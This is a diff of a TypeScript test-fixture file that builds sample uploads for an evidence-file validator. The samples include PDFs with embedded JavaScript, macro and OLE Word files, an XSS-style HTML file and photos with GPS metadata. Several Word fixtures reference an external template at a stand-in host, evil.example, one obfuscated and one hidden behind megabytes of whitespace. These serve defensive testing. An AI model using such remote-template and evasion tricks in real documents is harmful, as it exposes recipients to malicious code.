@@ -1,9 +1,14 @@
 /** Files that somebody might hand in as evidence: good ones, and those that must be refused. */
 import { deflateSync } from 'node:zlib';
 import { strToU8, zipSync, type Zippable } from 'fflate';
+import { craftedEvidence } from '../crafted/evidence.ts';
+import { bookOf, ofdOf, wordOf } from '../crafted/office.ts';
+import { chunk, gps, photoWith, pngWith } from '../crafted/pictures.ts';
 import { picture } from '../generator/picture.ts';
 
 export const png = picture(7);
+export const webp = craftedEvidence['WebP：有损']?.bytes() ?? new Uint8Array();
+
 export const pdf = strToU8('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n');
 export const pdfWithScript = strToU8(
   '%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n',
@@ -25,11 +30,6 @@ const packedPdf = (object: string, filter = '/FlateDecode') => {
 export const pdfPacked = packedPdf('<< /Type /Catalog >>');
 export const pdfWithPackedScript = packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>');
 export const pdfUnreadable = packedPdf('', '/Crypt');
-export const webp = Buffer.concat([
-  Buffer.from('RIFF\u0004\0\0\0WEBP', 'latin1'),
-  Buffer.from('VP8 \0\0\0\0', 'latin1'),
-]);
-
 const zip = (files: Record<string, string>) =>
   zipSync(
     Object.fromEntries(
@@ -37,21 +37,19 @@ const zip = (files: Record<string, string>) =>
     ) satisfies Zippable,
   );
 
-export const docx = zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' });
-export const xlsx = zip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<w/>' });
-export const ofd = zip({ 'OFD.xml': '<ofd/>', 'Doc_0/Document.xml': '<d/>' });
-export const docm = zip({ 'word/document.xml': '<w/>', 'word/vbaProject.bin': 'macro' });
-export const docxWithObject = zip({
-  'word/document.xml': '<w/>',
-  'word/embeddings/oleObject1.bin': 'object',
-});
-const docxWith = (relationships: string) =>
-  zip({ 'word/document.xml': '<w/>', 'word/_rels/settings.xml.rels': relationships });
+export const docx = wordOf({});
+export const xlsx = bookOf({});
+export const ofd = ofdOf();
+const crafted = (what: string): Uint8Array => craftedEvidence[what]?.bytes() ?? new Uint8Array();
+export const docm = crafted('Word：带宏的文档改名为 docx');
+export const docxWithObject = crafted('Word：OLE 对象换了后缀');
+export const docxWithTemplate = crafted('Word：共享文件夹里的模板');
 const TEMPLATE =
   'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
-export const docxWithTemplate = docxWith(
-  `<Relationship Type="${TEMPLATE}" Target="http://evil.example/t.dotm" TargetMode="External"/>`,
-);
+const docxWith = (relationships: string) =>
+  wordOf({
+    more: { 'word/_rels/settings.xml.rels': `<Relationships>${relationships}</Relationships>` },
+  });
 /** Attributes the other way round, in the other quotes, a letter as a number. */
 export const docxWithHiddenTemplate = docxWith(
   `<r:Relationship TargetMode='Extern&#97;l' Target='http://evil.example/t.dotm' Type='${TEMPLATE}'/>`,
@@ -60,12 +58,17 @@ export const docxWithHiddenTemplate = docxWith(
 export const docxWithFarTemplate = docxWith(
   `${' '.repeat(5_000_000)}<Relationship Type="${TEMPLATE}" Target="t" TargetMode="External"/>`,
 );
+const HYPERLINK = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink';
 /** A link that somebody may click is no harm. */
 export const docxWithLink = docxWith(
-  '<Relationship Type="http://x.example/hyperlink" Target="http://a.example/frame" TargetMode="External"/>',
+  `<Relationship Type="${HYPERLINK}" Target="http://a.example/frame" TargetMode="External"/>`,
 );
-/** Words on which a search that begins over and over would take minutes. */
-export const docxToSearchLong = docxWith('<Relationship Type="x/attachedTemplate"'.repeat(80_000));
+/** As many links as fit. */
+export const docxToSearchLong = docxWith(
+  `<Relationship Type="${HYPERLINK}" Target="http://a.example/" TargetMode="External"/>`.repeat(
+    20_000,
+  ),
+);
 export const plainZip = zip({ '说明.txt': '说明' });
 export const oldDoc = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
 export const html = strToU8('<!DOCTYPE html><script>alert(1)</script>');
@@ -91,14 +94,9 @@ const MAKER = 0x010f;
 const GPS = 0x8825;
 
 function jpeg(app1: Buffer): Uint8Array {
-  const length = Buffer.alloc(2);
-  length.writeUInt16BE(app1.length + 2);
-  return Buffer.concat([
-    Buffer.from([0xff, 0xd8, 0xff, 0xe1]),
-    length,
-    app1,
-    Buffer.from([0xff, 0xda, 0, 2, 0xff, 0xd9]),
-  ]);
+  const head = Buffer.from([0xff, 0xe1, 0, 0]);
+  head.writeUInt16BE(app1.length + 2, 2);
+  return photoWith(head, app1);
 }
 
 /** A picture of which only a part arrived, one that ends in a page, and a page with a picture's first bytes. */
@@ -110,30 +108,12 @@ const exif = (tag: number) => Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), 
 
 export const jpegPlain = jpeg(exif(MAKER));
 export const jpegHalf = jpegPlain.subarray(0, jpegPlain.length - 2);
-export const webpHalf = Buffer.concat([
-  Buffer.from('RIFF\u00ff\0\0\0WEBP', 'latin1'),
-  Buffer.from('VP8 \0\0\0\0', 'latin1'),
-]);
+export const webpHalf = webp.subarray(0, 60);
 export const jpegWithPosition = jpeg(exif(GPS));
 export const jpegWithXmpPosition = jpeg(
   Buffer.from('http://ns.adobe.com/xap/1.0/\0<x exif:GPSLatitude="38,17N"/>', 'latin1'),
 );
 
-/** The small picture with an eXIf block before its end. */
-export const pngWithPosition = (() => {
-  const bytes = Buffer.from(png);
-  const end = bytes.lastIndexOf('IEND') - 4;
-  const data = tiff(GPS);
-  const head = Buffer.alloc(8);
-  head.writeUInt32BE(data.length, 0);
-  head.write('eXIf', 4, 'latin1');
-  return Buffer.concat([bytes.subarray(0, end), head, data, Buffer.alloc(4), bytes.subarray(end)]);
-})();
-
-export const webpWithPosition = (() => {
-  const data = exif(GPS);
-  const head = Buffer.alloc(8);
-  head.write('EXIF', 0, 'latin1');
-  head.writeUInt32LE(data.length, 4);
-  return Buffer.concat([Buffer.from(webp), head, data]);
-})();
+export const pngWithPosition = pngWith(chunk('eXIf', gps));
+export const webpWithPosition =
+  craftedEvidence['WebP：EXIF 里的拍摄地点']?.bytes() ?? new Uint8Array();
